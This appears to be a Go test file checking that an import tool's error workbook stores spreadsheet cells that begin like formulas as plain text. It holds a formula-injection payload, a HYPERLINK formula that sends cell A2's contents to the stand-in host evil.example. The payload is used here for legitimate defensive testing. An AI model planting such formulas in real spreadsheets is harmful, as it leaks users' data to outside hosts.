package imports_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/xiezuo/xiezuo/imports"
	"github.com/xiezuo/xiezuo/internal/testdb"
)

// TestErrorWorkbookKeepsFormulasAsText (issue 9, fault 5): the workbook of
// rows to fix echoes the unit's cells; one that starts like a formula is a
// string cell there, never a formula, and reads back as typed.
func TestErrorWorkbookKeepsFormulasAsText(t *testing.T) {
	t.Parallel()
	db := testdb.OpenDemo(t, "sqlite")
	unit := user(t, db, "chengjiaqiao")
	hyperlink := `=HYPERLINK("http://evil.example/?d="&A2,"点击查看")`
	csv := "日期,帮扶单位,受援县,形式,金额(元),物资/内容,备注\n" +
		`2020-09-01,上海龙舜投资管理有限公司,绿春县,资金,-5,"=HYPERLINK(""http://evil.example/?d=""&A2,""点击查看"")",@SUM(A1)` + "\n"
	b, err := run(t, db, unit, "九月.csv", []byte(csv), imports.Options{Mode: "all"})
	if err == nil || b == nil || b.Errors != 1 {
		t.Fatalf("import: %+v, %v", b, err)
	}
	probs, err := db.ImportProblems(ctx, unit, b.ID)
	if err != nil || len(probs) != 1 {
		t.Fatalf("problems: %+v, %v", probs, err)
	}
	var buf bytes.Buffer
	if err := imports.ErrorWorkbook(&buf, b, probs); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, _ := f.GetRows("待修改", excelize.Options{RawCellValue: true})
	if len(rows) != 2 {
		t.Fatalf("rows: %q", rows)
	}
	want := map[string]bool{hyperlink: false, "@SUM(A1)": false, "-5": false}
	for j, v := range rows[1] {
		if _, ok := want[v]; !ok {
			continue
		}
		want[v] = true
		cell, _ := excelize.CoordinatesToCellName(j+1, 2)
		if fm, _ := f.GetCellFormula("待修改", cell); fm != "" {
			t.Errorf("%s: formula %q", cell, fm)
		}
		if typ, _ := f.GetCellType("待修改", cell); typ == excelize.CellTypeFormula {
			t.Errorf("%s: formula cell", cell)
		}
		if got, _ := f.GetCellValue("待修改", cell); got != v {
			t.Errorf("%s = %q, want %q", cell, got, v)
		}
	}
	for v, seen := range want {
		if !seen {
			t.Errorf("cell %q not echoed: %q", v, rows[1])
		}
	}
	if !strings.Contains(rows[1][1], "不能为负数") {
		t.Errorf("message: %q", rows[1][1])
	}
}
